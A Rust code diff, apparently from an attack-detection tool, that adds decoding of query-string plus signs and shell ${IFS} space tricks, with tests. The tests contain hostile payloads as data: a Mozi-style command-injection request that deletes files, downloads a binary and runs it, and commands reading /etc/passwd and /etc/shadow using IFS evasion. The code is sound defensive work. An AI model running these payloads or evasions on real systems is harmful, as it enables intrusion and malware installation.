@@ -200,11 +200,12 @@ pub fn html_unescape(input: &[u8]) -> Vec<u8> {
 }
 
 /// Every decoding at once, repeated until stable (at most 4 rounds): URL, escapes, HTML
-/// entities. `plus` also turns `+` into spaces (query strings).
+/// entities, shell `${IFS}` spaces. `+` is a space inside query strings (after a `?`, up to
+/// the end of the request target); `plus` turns every `+` into a space.
 pub fn normalize(input: &[u8], plus: bool) -> Vec<u8> {
-    let mut cur = input.to_vec();
+    let mut cur = if plus { input.to_vec() } else { query_plus(input) };
     for _ in 0..4 {
-        let next = html_unescape(&unescape(&url_decode_repeated(&cur, plus)));
+        let next = ifs_spaces(&html_unescape(&unescape(&url_decode_repeated(&cur, plus))));
         let again = next != cur && may_be_encoded(&next);
         cur = next;
         if !again {
@@ -214,9 +215,73 @@ pub fn normalize(input: &[u8], plus: bool) -> Vec<u8> {
     cur
 }
 
-/// True when `normalize` could change `input` (it holds `%`, `\`, `&` or `+`).
+/// True when `normalize` could change `input` (it holds `%`, `\`, `&`, a `+` after a `?`,
+/// or `$IFS`).
 pub fn may_be_encoded(input: &[u8]) -> bool {
     memchr::memchr3(b'%', b'\\', b'&', input).is_some()
+        || (memchr::memchr(b'+', input).is_some() && memchr::memchr(b'?', input).is_some())
+        || memchr::memmem::find(input, b"IFS").is_some()
+}
+
+/// `+` as a space inside query strings: from a `?` up to the next space, tab or `"` (the end
+/// of a logged request target). Elsewhere `+` stays (base64, `stratum+tcp`).
+pub fn query_plus(input: &[u8]) -> Vec<u8> {
+    if memchr::memchr(b'+', input).is_none() {
+        return input.to_vec();
+    }
+    let mut in_query = false;
+    input
+        .iter()
+        .map(|&b| match b {
+            b'?' => {
+                in_query = true;
+                b
+            }
+            b' ' | b'\t' | b'"' => {
+                in_query = false;
+                b
+            }
+            b'+' if in_query => b' ',
+            _ => b,
+        })
+        .collect()
+}
+
+/// Shell word-splitting tricks that stand for a space: `${IFS}`, `$IFS$9` (and any `$N`),
+/// `${IFS%??}`, `$IFS` before a non-word byte.
+pub fn ifs_spaces(input: &[u8]) -> Vec<u8> {
+    if memchr::memmem::find(input, b"IFS").is_none() {
+        return input.to_vec();
+    }
+    let mut out = Vec::with_capacity(input.len());
+    let mut i = 0;
+    while i < input.len() {
+        let rest = &input[i..];
+        let n = if rest.starts_with(b"${IFS}") {
+            6
+        } else if rest.starts_with(b"${IFS%??}") {
+            9
+        } else if rest.starts_with(b"$IFS")
+            && !rest.get(4).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_')
+        {
+            // `$IFS$9`: an empty positional parameter glued on, to end the name.
+            if rest.get(4) == Some(&b'$') && rest.get(5).is_some_and(u8::is_ascii_digit) {
+                6
+            } else {
+                4
+            }
+        } else {
+            0
+        };
+        if n > 0 {
+            out.push(b' ');
+            i += n;
+        } else {
+            out.push(input[i]);
+            i += 1;
+        }
+    }
+    out
 }
 
 /// Decode base64 in any of its alphabets, padded or not. None unless it decodes to mostly
@@ -360,6 +425,25 @@ mod tests {
         assert_eq!(s(unescape(br#"a\"b\\c\/d"#)), r#"a"b\c/d"#);
         assert_eq!(s(unescape(br"\q \u12 \x4 end\")), r"\q \u12 \x4 end\");
         assert_eq!(s(unescape(br"\ud800x")), "\u{fffd}x");
+    }
+
+    #[test]
+    fn query_plus_and_shell_spaces() {
+        assert_eq!(
+            s(normalize(b"GET /setup.cgi?cmd=rm+-rf+/tmp/*;wget+http://192.168.1.1:8088/Mozi.m+-O+/tmp/netgear;sh+netgear HTTP/1.0", false)),
+            "GET /setup.cgi?cmd=rm -rf /tmp/*;wget http://192.168.1.1:8088/Mozi.m -O /tmp/netgear;sh netgear HTTP/1.0"
+        );
+        // Outside a query string `+` stays: base64, stratum+tcp, a plus in a path.
+        assert_eq!(s(normalize(b"pool stratum+tcp://x:3333 /a+b", false)), "pool stratum+tcp://x:3333 /a+b");
+        // `%2B` is a literal plus even inside the query.
+        assert_eq!(s(normalize(b"/?a=b%2Bc+d", false)), "/?a=b+c d");
+        assert_eq!(
+            s(ifs_spaces(b"cat${IFS}/etc/passwd;cat$IFS$9/etc/shadow;x$IFS/y;${IFS%??}z")),
+            "cat /etc/passwd;cat /etc/shadow;x /y; z"
+        );
+        assert_eq!(s(ifs_spaces(b"$IFSX stays")), "$IFSX stays");
+        assert!(may_be_encoded(b"/?a=b+c"));
+        assert!(!may_be_encoded(b"a+b"));
     }
 
     #[test]
